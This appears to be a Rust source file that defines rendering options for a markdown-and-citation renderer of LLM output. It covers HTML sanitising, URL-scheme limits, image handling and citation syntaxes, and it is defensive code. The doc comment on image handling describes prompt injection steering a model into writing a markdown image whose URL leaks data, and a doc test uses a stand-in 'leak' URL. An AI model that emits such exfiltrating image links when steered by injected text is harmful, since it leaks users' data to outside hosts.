//! What a caller can change: render mode, raw-HTML policy, which citation
//! syntaxes are recognized, short-link patterns, and the host's sources.
//!
//! Every default is the safe one. The two settings that can produce
//! script-capable HTML ([`RawHtml::DangerouslyPassThrough`] and
//! [`UrlPolicy::DangerouslyAllowAny`]) say so in their names and cannot be
//! chosen from JSON, so neither the CLI nor the WASM package can reach them.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::cite::shortlink::ShortLinkPattern;
use crate::error::Error;
use crate::source::Source;

/// How each citation occurrence is written.
///
/// # Defaults
/// [`Mode::Link`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    /// `<a href=…>` with the source's URL (numeric markers in a `<sup>`).
    #[default]
    Link,
    /// `<button type="button">`, for iframe embeds where anchors misbehave.
    Button,
    /// A link (or a button when [`Options::embedded`]) holding an empty
    /// `<span class="citation-icon">` for the host to fill with its own icon.
    Icon,
}

/// What happens to raw HTML written in the markdown.
///
/// `<cite>` tags are citation syntax and are consumed before this applies.
///
/// # Defaults
/// [`RawHtml::Sanitize`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RawHtml {
    /// Keep a strict allowlist of harmless tags (`sup`, `kbd`, `details`, …)
    /// and attributes; drop everything else, keeping its text.
    #[default]
    Sanitize,
    /// Show the raw HTML as text.
    Escape,
    /// Drop raw HTML tags entirely (markdown between them is kept).
    Strip,
    /// Copy raw HTML into the output untouched. **Unsafe**: for trusted input
    /// and spec-conformance testing only. Not reachable from JSON.
    #[serde(skip)]
    DangerouslyPassThrough,
}

impl RawHtml {
    /// The policy the writer applies. With the `sanitize` feature (on by
    /// default) that is `self`; without it (the npm package's `lite` entry,
    /// which leaves ammonia out) [`RawHtml::Sanitize`] falls back to
    /// [`RawHtml::Escape`]: raw HTML is shown as text, never passed through.
    ///
    /// # Examples
    /// ```
    /// use citemark::RawHtml;
    ///
    /// assert_eq!(RawHtml::Strip.effective(), RawHtml::Strip);
    /// let sanitizes = cfg!(feature = "sanitize");
    /// assert_eq!(RawHtml::Sanitize.effective() == RawHtml::Sanitize, sanitizes);
    /// ```
    pub const fn effective(self) -> RawHtml {
        match self {
            #[cfg(not(feature = "sanitize"))]
            RawHtml::Sanitize => RawHtml::Escape,
            other => other,
        }
    }
}

/// Which URL schemes links and images may carry.
///
/// # Defaults
/// [`UrlPolicy::Safe`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum UrlPolicy {
    /// `http`, `https`, `mailto` and relative or fragment URLs only; a link
    /// with any other scheme renders as its text, an image as its alt text.
    #[default]
    Safe,
    /// Any URL. **Unsafe** (`javascript:` passes): for spec-conformance
    /// testing only. Not reachable from JSON.
    #[serde(skip)]
    DangerouslyAllowAny,
}

/// What happens to images: markdown's `![alt](src)` and raw `<img>` tags.
///
/// A browser fetches an image as soon as the message is shown, without a
/// click. A model that read hostile text (a web page, a document: prompt
/// injection) can be steered into writing an image whose URL carries what
/// it knows, and showing the message sends it. Hosts that render answers
/// built from untrusted content should choose [`Images::Link`] or
/// [`Images::Alt`] (or proxy images, or restrict `img-src` with a CSP).
///
/// # Defaults
/// [`Images::Show`], as GitHub does.
///
/// # Examples
/// ```
/// use citemark::{render, Images, Options};
///
/// let md = "![chart](https://x.example/q?leak=1)";
/// let linked = render(md, &Options::default().with_images(Images::Link)).html;
/// assert_eq!(
///     linked,
///     "<p><a href=\"https://x.example/q?leak=1\" rel=\"noopener noreferrer nofollow\">chart</a></p>\n"
/// );
/// let alt = render(md, &Options::default().with_images(Images::Alt)).html;
/// assert_eq!(alt, "<p>chart</p>\n");
/// ```
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Images {
    /// `<img src=…>`: the browser loads the image.
    #[default]
    Show,
    /// A link to the image with its alt text (its URL when the alt text is
    /// empty): nothing loads until the reader follows it. Inside a link or
    /// a citation, where a link cannot nest, the alt text alone. Raw
    /// `<img>` tags are dropped.
    Link,
    /// The alt text alone, as markdown text; raw `<img>` tags are dropped.
    Alt,
}

/// The citation syntaxes to recognize. On by default: every one but the
/// marker spellings that can be ordinary text elsewhere (`[^1^]`,
/// `[citation:3]`), which are opt-in.
///
/// # Examples
/// ```
/// use citemark::{render, Options, Syntaxes};
///
/// let only_tags = Options::default().with_syntaxes(Syntaxes { markers: false, ..Syntaxes::default() });
/// let out = render("See [1].", &only_tags);
/// assert_eq!(out.html, "<p>See [1].</p>\n");
///
/// let prompt = Options::default().with_syntaxes(Syntaxes { prompt_markers: true, ..Syntaxes::default() });
/// let out = render("See [citation:1].", &prompt);
/// assert_eq!(out.citations.occurrences[0].key, "1");
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase", deny_unknown_fields)]
pub struct Syntaxes {
    /// `<cite id="call_1">label</cite>`.
    pub cite_tags: bool,
    /// `[1]`, `[2][3]`, `[1, 3]`, `[1-3]`, `[1#page=3]`.
    pub markers: bool,
    /// Links and bare URLs matching [`Options::short_link_patterns`].
    pub short_links: bool,
    /// Links to `…/-/open-query?query=<JSON>`.
    pub query_links: bool,
    /// Clean up LLM slips around citation links: `([label](url))`,
    /// `([label](url)`, and short-link URLs pasted bare in parentheses.
    pub recovery: bool,
    /// Copilot's `[^1^]` (also `[^1, 2^]`). Off by default: it is a
    /// footnote reference's spelling when `[^1^]:` is defined.
    pub copilot_markers: bool,
    /// Prompt templates' `[citation:3]` and `[source: 3]` (any case, also
    /// `[citation:1, 2]`). Off by default: `[source: 3]` can be prose.
    pub prompt_markers: bool,
    /// OpenAI file search's plain-text markers, `【3†source】` and
    /// `【3:0†report.pdf】`, citing source 3. On by default: prose never
    /// reads so.
    pub file_search_markers: bool,
}

impl Default for Syntaxes {
    /// Every syntax but the opt-in marker spellings.
    fn default() -> Self {
        Syntaxes {
            copilot_markers: false,
            prompt_markers: false,
            ..Syntaxes::all()
        }
    }
}

impl Syntaxes {
    /// Every syntax on, the opt-in ones included.
    pub const fn all() -> Self {
        Syntaxes {
            cite_tags: true,
            markers: true,
            short_links: true,
            query_links: true,
            recovery: true,
            copilot_markers: true,
            prompt_markers: true,
            file_search_markers: true,
        }
    }

    /// Every syntax off: citemark is then a plain (safe) markdown renderer.
    pub const fn none() -> Self {
        Syntaxes {
            cite_tags: false,
            markers: false,
            short_links: false,
            query_links: false,
            recovery: false,
            copilot_markers: false,
            prompt_markers: false,
            file_search_markers: false,
        }
    }
}

/// Everything that shapes one render.
///
/// Build it with [`Options::default`] and the `with_*` methods, or
/// deserialize it from camelCase JSON (unknown fields are an error).
///
/// # Examples
/// ```
/// use citemark::{render, Mode, Options, Source};
///
/// let opts = Options::default()
///     .with_mode(Mode::Button)
///     .with_sources(vec![Source::with_id("call_1").with_title("Revenue query")]);
/// let out = render(r#"Up 4% <cite id="call_1">by region</cite>."#, &opts);
/// assert!(out.html.contains(r#"<button type="button" class="citation""#));
/// assert!(out.citations.occurrences[0].resolved);
/// ```
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase", deny_unknown_fields)]
#[non_exhaustive]
pub struct Options {
    /// What the host knows about its sources. `None` means "not known yet"
    /// (every recognized `[n]` renders as an unresolved citation); `Some`,
    /// even empty, means a `[n]` with no matching source stays literal text.
    ///
    /// # Defaults
    /// `None`.
    pub sources: Option<Vec<Source>>,
    /// Old citation keys mapped to new ones (forked conversations). Chains
    /// are followed; a cycle stops at the key seen twice.
    ///
    /// # Defaults
    /// Empty.
    pub aliases: BTreeMap<String, String>,
    /// How citations are written.
    ///
    /// # Defaults
    /// [`Mode::Link`].
    pub mode: Mode,
    /// In [`Mode::Icon`], write buttons instead of links (iframe embeds).
    ///
    /// # Defaults
    /// `false`.
    pub embedded: bool,
    /// What happens to raw HTML in the markdown.
    ///
    /// # Defaults
    /// [`RawHtml::Sanitize`].
    pub raw_html: RawHtml,
    /// Which URL schemes links and images may carry.
    ///
    /// # Defaults
    /// [`UrlPolicy::Safe`].
    pub urls: UrlPolicy,
    /// Which citation syntaxes are recognized.
    ///
    /// # Defaults
    /// All of them.
    pub syntaxes: Syntaxes,
    /// The path templates that make a URL a short-link citation.
    ///
    /// # Defaults
    /// `[**/-/ai/conversations/{conversation}/call/{call}]`, keyed by `call`.
    pub short_link_patterns: Vec<ShortLinkPattern>,
    /// GFM's extended autolinks: bare `https://…`, `www.…` and e-mail
    /// addresses in text become links.
    ///
    /// # Defaults
    /// `true`.
    pub autolinks: bool,
    /// `rel` written on links to absolute URLs; `None` writes none.
    ///
    /// # Defaults
    /// `Some("noopener noreferrer nofollow")`.
    pub link_rel: Option<String>,
    /// Prefix of every `id` citemark writes (footnote definitions) and of
    /// the `#` links to them. It keeps ids from clobbering page globals
    /// (`window.scope`) and, made unique per message (`"msg-42-"`), keeps
    /// the footnotes of several answers on one page apart.
    ///
    /// # Defaults
    /// `"user-content-"`, as GitHub does.
    pub id_prefix: String,
    /// `target` written on links to absolute URLs (e.g. `"_blank"`).
    ///
    /// # Defaults
    /// `None`.
    pub link_target: Option<String>,
    /// What happens to images (see [`Images`] for why a host may not want
    /// them to load by themselves).
    ///
    /// # Defaults
    /// [`Images::Show`].
    pub images: Images,
    /// TeX math, in the four spellings models write: `$…$` and `\(…\)`
    /// inline, `$$…$$` and `\[…\]` displayed. Each becomes
    /// `<span class="math math-inline">` (or `math-display`) holding the
    /// TeX as escaped text, for the host to typeset (KaTeX, MathJax).
    /// Currency stays text (`$5 and $10`), math never holds citations,
    /// and `\[1\]` (brackets around a marker's content) stays the
    /// escaped brackets it is in CommonMark. `false`: CommonMark, where
    /// `\(` is an escaped `(`.
    ///
    /// # Defaults
    /// `true`.
    pub math: bool,
}

/// The prefix citemark gives the ids it writes, by default.
pub const DEFAULT_ID_PREFIX: &str = "user-content-";

/// The `rel` citemark writes on external links by default.
pub const DEFAULT_LINK_REL: &str = "noopener noreferrer nofollow";

impl Default for Options {
    fn default() -> Self {
        Options {
            sources: None,
            aliases: BTreeMap::new(),
            mode: Mode::Link,
            embedded: false,
            raw_html: RawHtml::Sanitize,
            urls: UrlPolicy::Safe,
            syntaxes: Syntaxes::default(),
            short_link_patterns: vec![ShortLinkPattern::default_pattern()],
            autolinks: true,
            link_rel: Some(DEFAULT_LINK_REL.to_owned()),
            id_prefix: DEFAULT_ID_PREFIX.to_owned(),
            link_target: None,
            images: Images::Show,
            math: true,
        }
    }
}

impl Options {
    /// Options for a plain CommonMark + GFM renderer that trusts its input:
    /// no citation syntaxes, no math, no extended autolinks, raw HTML and
    /// every URL passed through, no `rel`, no id prefix. **Unsafe**; this is what the
    /// spec conformance tests run with.
    pub fn dangerous_commonmark() -> Self {
        Options {
            id_prefix: String::new(),
            raw_html: RawHtml::DangerouslyPassThrough,
            urls: UrlPolicy::DangerouslyAllowAny,
            syntaxes: Syntaxes::none(),
            autolinks: false,
            link_rel: None,
            math: false,
            ..Options::default()
        }
    }

    /// Options from their camelCase JSON (what the npm package's `options`
    /// argument becomes), unknown fields rejected.
    ///
    /// # Errors
    /// [`Error::InvalidOption`] whose `field` is the JSON path of what did
    /// not fit (`sources[0].index`, `mode`, or the unknown field itself;
    /// empty for the document as a whole), with serde's reason.
    ///
    /// # Examples
    /// ```
    /// use citemark::{Error, Mode, Options};
    ///
    /// assert_eq!(Options::from_json(r#"{"mode": "button"}"#).unwrap().mode, Mode::Button);
    /// let err = Options::from_json(r#"{"sources": [{"index": "1"}]}"#).unwrap_err();
    /// assert!(matches!(&err, Error::InvalidOption { field, .. } if field == "sources[0].index"));
    /// assert!(err.message_at("options").starts_with("options.sources[0].index: invalid type"));
    /// ```
    pub fn from_json(json: &str) -> Result<Self, Error> {
        from_json_at(json)
    }

    /// A sources list from JSON: an array of [`Source`]s, or `null` for
    /// "not known yet" (what [`Stream::set_sources`](crate::Stream::set_sources) takes).
    ///
    /// # Errors
    /// [`Error::InvalidOption`] whose `field` is the path inside the list
    /// (`[2].href`), as for [`Options::from_json`].
    ///
    /// # Examples
    /// ```
    /// use citemark::Options;
    ///
    /// assert_eq!(Options::sources_from_json("null").unwrap(), None);
    /// assert_eq!(Options::sources_from_json(r#"[{"id": "a"}]"#).unwrap().map(|s| s.len()), Some(1));
    /// let err = Options::sources_from_json(r#"[{"id": "a"}, {"titel": "b"}]"#).unwrap_err();
    /// assert!(err.message_at("sources").starts_with("sources[1].titel: unknown field `titel`"));
    /// ```
    pub fn sources_from_json(json: &str) -> Result<Option<Vec<Source>>, Error> {
        from_json_at(json)
    }

    /// Sets [`Options::sources`] (marking them as known).
    pub fn with_sources(mut self, sources: Vec<Source>) -> Self {
        self.sources = Some(sources);
        self
    }

    /// Sets sources (and aliases) from the JSON a host keeps them in: an
    /// array of [`Source`]s, or `{"sources": [...], "aliases": {"old": "new"}}`.
    ///
    /// # Errors
    /// [`Error::InvalidOption`] naming `sources` (or `aliases`) with serde's
    /// description of what did not fit.
    ///
    /// # Examples
    /// ```
    /// use citemark::Options;
    ///
    /// let opts = Options::default()
    ///     .with_sources_json(r#"{"sources": [{"id": "b"}], "aliases": {"a": "b"}}"#)
    ///     .unwrap();
    /// assert_eq!(opts.sources.as_ref().map(Vec::len), Some(1));
    /// assert_eq!(opts.aliases["a"], "b");
    /// let err = Options::default().with_sources_json(r#"[{"titel": "x"}]"#).unwrap_err();
    /// assert!(err.to_string().contains("sources") && err.to_string().contains("titel"));
    /// ```
    pub fn with_sources_json(mut self, json: &str) -> Result<Self, Error> {
        let value: serde_json::Value =
            serde_json::from_str(json).map_err(|e| Error::invalid("sources", e.to_string()))?;
        let (sources, aliases) = match value {
            serde_json::Value::Object(mut fields) => {
                let sources = fields.remove("sources").unwrap_or_default();
                let aliases = fields.remove("aliases").unwrap_or_default();
                if let Some(other) = fields.keys().next() {
                    return Err(Error::invalid(
                        "sources",
                        format!("unknown field `{other}`, expected `sources` or `aliases`"),
                    ));
                }
                (sources, aliases)
            }
            list => (list, serde_json::Value::Null),
        };
        let sources: Vec<Source> = serde_json::from_value(sources)
            .map_err(|e| Error::invalid("sources", e.to_string()))?;
        if !aliases.is_null() {
            let aliases: BTreeMap<String, String> = serde_json::from_value(aliases)
                .map_err(|e| Error::invalid("aliases", e.to_string()))?;
            self.aliases.extend(aliases);
        }
        self.sources = Some(sources);
        Ok(self)
    }

    /// Adds one alias `from` → `to`.
    pub fn with_alias(mut self, from: impl Into<String>, to: impl Into<String>) -> Self {
        self.aliases.insert(from.into(), to.into());
        self
    }

    /// Sets [`Options::mode`].
    pub fn with_mode(mut self, mode: Mode) -> Self {
        self.mode = mode;
        self
    }

    /// Sets [`Options::embedded`].
    pub fn with_embedded(mut self, embedded: bool) -> Self {
        self.embedded = embedded;
        self
    }

    /// Sets [`Options::raw_html`].
    pub fn with_raw_html(mut self, raw_html: RawHtml) -> Self {
        self.raw_html = raw_html;
        self
    }

    /// Sets [`Options::syntaxes`].
    pub fn with_syntaxes(mut self, syntaxes: Syntaxes) -> Self {
        self.syntaxes = syntaxes;
        self
    }

    /// Replaces [`Options::short_link_patterns`].
    pub fn with_short_link_patterns(mut self, patterns: Vec<ShortLinkPattern>) -> Self {
        self.short_link_patterns = patterns;
        self
    }

    /// Sets [`Options::math`].
    pub fn with_math(mut self, math: bool) -> Self {
        self.math = math;
        self
    }

    /// Sets [`Options::autolinks`].
    pub fn with_autolinks(mut self, autolinks: bool) -> Self {
        self.autolinks = autolinks;
        self
    }

    /// Sets [`Options::link_rel`].
    pub fn with_link_rel(mut self, rel: Option<String>) -> Self {
        self.link_rel = rel;
        self
    }

    /// Sets [`Options::id_prefix`].
    pub fn with_id_prefix(mut self, prefix: impl Into<String>) -> Self {
        self.id_prefix = prefix.into();
        self
    }

    /// Sets [`Options::link_target`].
    pub fn with_link_target(mut self, target: Option<String>) -> Self {
        self.link_target = target;
        self
    }

    /// Sets [`Options::images`].
    pub fn with_images(mut self, images: Images) -> Self {
        self.images = images;
        self
    }
}

/// Deserializes `json`, naming the path of the first value that did not fit.
pub(crate) fn from_json_at<T: serde::de::DeserializeOwned>(json: &str) -> Result<T, Error> {
    let mut deserializer = serde_json::Deserializer::from_str(json);
    let value: T = serde_path_to_error::deserialize(&mut deserializer).map_err(|e| {
        let path = e.path().to_string();
        let field = if path == "." { String::new() } else { path };
        Error::invalid(&field, without_position(e.into_inner().to_string()))
    })?;
    deserializer
        .end()
        .map_err(|e| Error::invalid("", without_position(e.to_string())))?;
    Ok(value)
}

/// serde_json's message without its ` at line L column C`: the path says
/// where, and the position is in JSON text the caller may never have seen
/// (the npm package stringifies an object).
fn without_position(mut message: String) -> String {
    if let Some((head, tail)) = message.rsplit_once(" at line ") {
        let is_position = tail.split_once(" column ").is_some_and(|(line, column)| {
            [line, column]
                .iter()
                .all(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
        });
        if is_position {
            message.truncate(head.len());
        }
    }
    message
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_reject_unknown_fields_and_unsafe_values() {
        assert!(serde_json::from_str::<Options>(r#"{"mod":"link"}"#).is_err());
        assert!(
            serde_json::from_str::<Options>(r#"{"rawHtml":"dangerouslyPassThrough"}"#).is_err()
        );
        let o: Options = serde_json::from_str(r#"{"mode":"icon","embedded":true}"#).unwrap();
        assert_eq!(o.mode, Mode::Icon);
        assert_eq!(o.raw_html, RawHtml::Sanitize);
    }

    fn error_at(json: &str) -> String {
        Options::from_json(json).unwrap_err().message_at("options")
    }

    #[test]
    fn from_json_names_the_path_of_what_did_not_fit() {
        assert_eq!(Options::from_json("{}").unwrap(), Options::default());
        assert_eq!(
            Options::from_json(r#"{"sources": null, "rawHtml": "strip"}"#).unwrap(),
            Options::default().with_raw_html(RawHtml::Strip)
        );
        let cases = [
            (
                r#"{"mode": "fancy"}"#,
                "options.mode: unknown variant `fancy`",
            ),
            (r#"{"mode": 3}"#, "options.mode: expected value"),
            (r#"{"mod": "link"}"#, "options.mod: unknown field `mod`"),
            (
                r#"{"sources": [{"id": "a"}, {"index": -1}]}"#,
                "options.sources[1].index: invalid value: integer `-1`",
            ),
            (
                r#"{"syntaxes": {"markers": "yes"}}"#,
                "options.syntaxes.markers: invalid type: string \"yes\"",
            ),
            (
                r#"{"aliases": {"a": 1}}"#,
                "options.aliases.a: invalid type: integer `1`",
            ),
            (
                r#"{"shortLinkPatterns": [{"template": "/x/{call}", "key": "conversation"}]}"#,
                "options.shortLinkPatterns[0]: ",
            ),
            (
                r#"{"rawHtml": "dangerouslyPassThrough"}"#,
                "options.rawHtml: unknown variant",
            ),
            (r#""x""#, "options: invalid type: string \"x\""),
            (r#"{"mode": "link"} x"#, "options: trailing characters"),
            (r#"{"mode": "#, "options.mode: EOF while parsing"),
        ];
        for (json, expected) in cases {
            let message = error_at(json);
            assert!(message.starts_with(expected), "{json}: {message}");
            assert!(!message.contains(" at line "), "{json}: {message}");
        }
        assert_eq!(
            error_at(r#"{"mode": "fancy"}"#),
            "options.mode: unknown variant `fancy`, expected one of `link`, `button`, `icon`"
        );
    }
}
